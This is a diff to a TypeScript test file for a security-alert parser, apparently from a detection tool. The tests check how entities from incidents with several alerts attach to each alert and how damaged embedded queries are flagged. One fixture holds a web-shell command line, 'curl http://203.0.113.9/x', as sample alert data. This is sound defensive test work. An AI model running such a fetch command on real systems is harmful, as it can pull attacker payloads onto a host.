@@ -85,9 +85,14 @@ test('entities are the alert’s when it is the only one', () => {
   assert.deepEqual(alert.gaps, []);
 });
 
+const alertsOf = (payload: unknown) =>
+  read(payload).map((record) => (record.kind === 'alert' ? record.alert : undefined));
+
 test('entities of an incident with several alerts are candidates of each and facts of none', () => {
-  const payload = incidentPayload([armAlert(A, {}), armAlert(B, raw)], { relatedEntities: entities });
-  const [first, second] = read(payload).map((record) => (record.kind === 'alert' ? record.alert : undefined));
+  const { ProcessCommandLine: _, InitiatingProcessCommandLine: __, ...narrow } = webShellRow;
+  const narrowed = { ...raw, Query: embeddedQuery(compressed(narrow)) };
+  const payload = incidentPayload([armAlert(A, {}), armAlert(B, narrowed)], { relatedEntities: entities });
+  const [first, second] = alertsOf(payload);
   assert.deepEqual(first?.rows, [
     {
       table: 'DeviceProcessEvents',
@@ -99,9 +104,25 @@ test('entities of an incident with several alerts are candidates of each and fac
   assert.deepEqual(first?.gaps, ['rows.no-activity', 'entities.of-incident']);
   assert.deepEqual(
     second?.rows.map(({ columns, candidates }) => [columns, candidates]),
-    [[webShellRow, { ProcessCommandLine: ['curl http://203.0.113.9/x'] }]],
+    [[narrow, { ProcessCommandLine: ['curl http://203.0.113.9/x'] }]],
   );
   assert.deepEqual(second?.gaps, ['entities.of-incident']);
+});
+
+test('an alert that carries its event whole takes nothing from the other alerts of its incident', () => {
+  const other = { id: '/entities/o', kind: 'Host', properties: { hostName: 'db-01' } };
+  const payload = incidentPayload([armAlert(A, {}), armAlert(B, raw)], {
+    relatedEntities: [...entities, other],
+  });
+  const [, whole] = alertsOf(payload);
+  assert.deepEqual(whole?.rows, readAlertOf(incidentPayload([armAlert(B, raw)])).rows);
+  assert.deepEqual(whole?.gaps, []);
+
+  const damaged = { ...raw, Query: embeddedQuery(compressed(webShellRow), 'AAAA') };
+  const [, broken] = alertsOf(
+    incidentPayload([armAlert(A, {}), armAlert(B, damaged)], { relatedEntities: entities }),
+  );
+  assert.deepEqual(broken?.gaps, ['raw-row.unreadable', 'entities.of-incident']);
 });
 
 test('an alert that names no rule is of the incident’s', () => {
